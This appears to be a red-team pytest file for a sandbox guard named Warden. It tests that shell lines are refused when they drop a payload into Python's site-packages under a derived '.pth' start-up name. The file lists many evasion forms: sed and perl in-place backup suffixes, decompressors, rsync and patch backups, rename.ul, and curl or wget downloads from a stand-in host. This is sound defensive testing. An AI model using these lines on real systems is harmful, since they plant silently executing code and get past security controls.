"""Red team 37b: writers whose written NAME is derived from a word's name, not the word itself,
before a Python on the line that runs what they wrote as it starts (R34-7's class, for the
writers its fix did not model).

- R37b-1: sed and perl edit in place with a backup SUFFIX (``sed -i.pth``, ``sed
  --in-place=.pth``, ``perl -i.pth``): the old file is renamed to FILE + suffix. sed is on
  ``line_writers``' list, whose ``_sed`` drops the suffix (``_without_suffix``) and places the
  operands only; perl is off the list and its ``-i`` is no code ``writes`` reads.
- R37b-3: curl -O/-J and wget without -O name their file from the URL or the server, which
  ``line_writers._curl``/``_wget`` place as a stand-in FILE ``x`` in the output folder: R32's
  by-name rule reads ``x`` as no start-up name (``curl -O --output-dir <site>
  file:///.../zz.pth``).
- R37b-2: a writer off the list is placed at "the folder it runs in and every path its words
  name" (``commands._write_places``: TREE of each word); but decompressors (bunzip2, xz -d,
  zstd -d) write the word's name WITHOUT its suffix beside it, and backup makers (rsync -b
  --suffix, patch -b -z, util-linux rename) the word's name WITH another, a sibling no tree
  of a word holds.

The kernel writes ``<site>/zz`` (the payload under no start-up name) and ``zz.pth.bz2`` etc.;
the line's writer gives the payload a ``.pth`` name and ``py -c pass`` runs it before its
guard. These tests FAIL today (the payload installs with Warden).
"""

import glob
import subprocess
import sys

import pytest
from launched import line_refusal
from test_redteam32_places import _site_cell

KERNEL_LINES = {
    "sed_i_suffix": "'sed -i.pth -e \"\" ' + site + '/zz && ' + py + ' -c pass'",
    "sed_in_place_long": "'sed --in-place=.pth -e \"\" ' + site + '/zz && ' + py + ' -c pass'",
    "perl_i_suffix": "'perl -i.pth -pe \"\" ' + site + '/zz && ' + py + ' -c pass'",
    "bunzip2": "'bunzip2 ' + site + '/zz.pth.bz2 && ' + py + ' -c pass'",
    "xz_d": "'xz -d ' + site + '/zz.pth.xz && ' + py + ' -c pass'",
    "zstd_d": "'zstd -q -d --rm ' + site + '/zz.pth.zst && ' + py + ' -c pass'",
    "rsync_backup": "'rsync -b --suffix=.pth p.txt ' + site + '/zz && ' + py + ' -c pass'",
    "patch_backup": "'patch -s -b -z .pth ' + site + '/zz d.diff && ' + py + ' -c pass'",
    "rename_ul": "'rename.ul zz zz.pth ' + site + '/zz && ' + py + ' -c pass'",
    # R37b-3: the name curl -O takes from the URL
    "curl_O_output_dir": "'curl -sS -O --output-dir ' + site + ' file://' + os.getcwd() + '/zz.pth"
    " && ' + py + ' -c pass'",
    "curl_O_after_cd": "'cd ' + site + ' && curl -s -O file://' + os.getcwd() + '/zz.pth && ' + py"
    " + ' -c pass'",
}  # fmt: skip
KERNEL_FIRST = (
    "payload = open('p.pth').read(); open(site + '/zz', 'w').write(payload)\n"
    "    open('p.txt', 'w').write('1'); open('zz.pth', 'w').write(payload)\n"
    "    import bz2, lzma, difflib, subprocess\n"
    "    open(site + '/zz.pth.bz2', 'wb').write(bz2.compress(payload.encode()))\n"
    "    open(site + '/zz.pth.xz', 'wb').write(lzma.compress(payload.encode()))\n"
    "    subprocess.run(['zstd', '-q', '-f', '-o', 'p.zst', 'p.pth'], check=True)\n"
    "    open(site + '/zz.pth.zst', 'wb').write(open('p.zst', 'rb').read())\n"
    "    open('d.diff', 'w').writelines(difflib.unified_diff([payload], [payload, '#\\n'], 'zz',"
    " 'zz'))\n"
)
KERNEL_CLEAN = (
    "    [os.remove(os.path.join(site, f)) for f in os.listdir(site) if f.startswith('zz')]"
)


@pytest.mark.parametrize("case", sorted(KERNEL_LINES))
def test_a_kernel_line_writer_derives_a_pth_name(own_kernel, case):
    """Installs without Warden; with it the line must be refused, naming the site folder."""
    start = KERNEL_FIRST + f"    os.system({KERNEL_LINES[case]})\n" + KERNEL_CLEAN
    refused = own_kernel.proves(_site_cell(start))
    assert str(own_kernel.site) in refused, refused


# w.py's body, a Python the kernel starts (guarded): it starts the writer itself
W = (
    "import bz2, os, subprocess, sysconfig\nsite = sysconfig.get_paths()['purelib']\n"
    "open(site + '/zz', 'w').write(open('p.pth').read())\n"
)
CHILD_WRITES = {
    "sed_i_suffix": "subprocess.run(['sed', '-i.pth', '-e', '', site + '/zz'])",
    "perl_i_suffix": "subprocess.run(['perl', '-i.pth', '-pe', '', site + '/zz'])",
    "bunzip2": "open(site + '/zz.pth.bz2', 'wb').write(bz2.compress(open('p.pth', 'rb').read())); "
    "subprocess.run(['bunzip2', site + '/zz.pth.bz2'])",
    "rsync_backup": "open('q', 'w').write('1'); "
    "subprocess.run(['rsync', '-b', '--suffix=.pth', 'q', site + '/zz'])",
    "curl_O": "os.replace('p.pth', 'zz.pth'); subprocess.run(['curl', '-s', '-O', '--output-dir', "
    "site, 'file://' + os.getcwd() + '/zz.pth'])",
}  # fmt: skip


def _child_cell(write: str) -> str:
    writer = W + write + "\n"
    start = f"open('w.py', 'w').write({writer!r}); os.system(py + ' w.py; ' + py + ' -c pass')\n"
    return _site_cell(start + KERNEL_CLEAN)


@pytest.mark.parametrize("case", sorted(CHILD_WRITES))
def test_a_guarded_child_starts_a_writer_deriving_a_pth_name(own_kernel, case):
    """Installs without Warden; with it w.py's guard must refuse starting the writer."""
    blocked = own_kernel.child_refuses(_child_cell(CHILD_WRITES[case]))
    assert any(str(own_kernel.site) in e["message"] for e in blocked), blocked


def test_ordinary_in_place_edits_and_unpacking_run(kernel):
    """The legitimate forms: a backup of an edited file and a decompressed data file in the
    notebook's own folder, then a Python (runs today; must keep running)."""
    code = (
        "import os, sys, bz2\npy = sys.executable\n"
        "open('conf.txt', 'w').write('a\\n')\n"
        "open('data.csv.bz2', 'wb').write(bz2.compress(b'1,2\\n'))\n"
        "open('train.py', 'w').write('open(\"ran\", \"a\").write(open(\"conf.txt\").read())')\n"
        "assert os.system('sed -i.bak s/a/b/ conf.txt && ' + py + ' train.py') == 0\n"
        "assert os.system(\"perl -i.orig -pe 's/b/c/' conf.txt && \" + py + ' train.py') == 0\n"
        "line = 'bunzip2 data.csv.bz2 && cat data.csv >> conf.txt && ' + py + ' train.py'\n"
        "assert os.system(line) == 0\n"
    )
    result = kernel.cell(code, launched=True)
    assert result["refused"] is None, result
    assert (kernel.work / "ran").read_text() == "b\nc\nc\n1,2\n", result
    assert (kernel.work / "conf.txt.bak").exists() and (kernel.work / "conf.txt.orig").exists()


# -- the reading alone (no process started), for more forms of the same classes


@pytest.fixture(scope="module")
def venv(tmp_path_factory):
    root = tmp_path_factory.mktemp("r37b")
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(root / "v")], check=True)
    (root / "w").mkdir()
    return root


def _reading(line: str, venv) -> str:
    site = glob.glob(str(venv / "v" / "lib" / "python3*" / "site-packages"))[0]
    line = line.replace("SITE", site).replace("V/", f"{venv}/v/")
    return line_refusal(line, venv / "w", {})


@pytest.mark.parametrize(
    "line",
    ["sed -i.pth -e '' SITE/zz && V/bin/python -c pass",
     "sed -ni.pth p SITE/zz && V/bin/python -c pass",
     "sed --in-place=.pth s/a/b/ SITE/zz && V/bin/python -c pass",
     "sed --in-pl=.pth s/a/b/ SITE/zz && V/bin/python -c pass",
     "perl -i.pth -pe '' SITE/zz && V/bin/python -c pass",
     "perl -pi.pth -e 's/a/b/' SITE/zz && V/bin/python -c pass",
     "bunzip2 SITE/zz.pth.bz2 && V/bin/python -c pass",
     "bzip2 -d SITE/zz.pth.bz2 && V/bin/python -c pass",
     "unxz SITE/zz.pth.xz && V/bin/python -c pass",
     "lzma -d SITE/zz.pth.lzma && V/bin/python -c pass",
     "unzstd SITE/zz.pth.zst && V/bin/python -c pass",
     "rsync --backup --suffix=.pth p.txt SITE/zz && V/bin/python -c pass",
     "patch -b -z .pth SITE/zz d.diff && V/bin/python -c pass",
     "rename.ul zz zz.pth SITE/zz && V/bin/python -c pass",
     "curl -O --output-dir SITE https://example.invalid/zz.pth && V/bin/python -c pass",
     "cd SITE && curl -sLO https://example.invalid/zz.pth && V/bin/python -c pass",
     "curl -J -O --output-dir SITE https://example.invalid/x && V/bin/python -c pass",
     "wget -q -P SITE https://example.invalid/zz.pth && V/bin/python -c pass",
     "cd SITE && wget -q https://example.invalid/zz.pth && V/bin/python -c pass"],
)  # fmt: skip
def test_the_reading_refuses_a_derived_pth_name(venv, line):
    refused = _reading(line, venv)
    assert "site-packages" in refused, refused
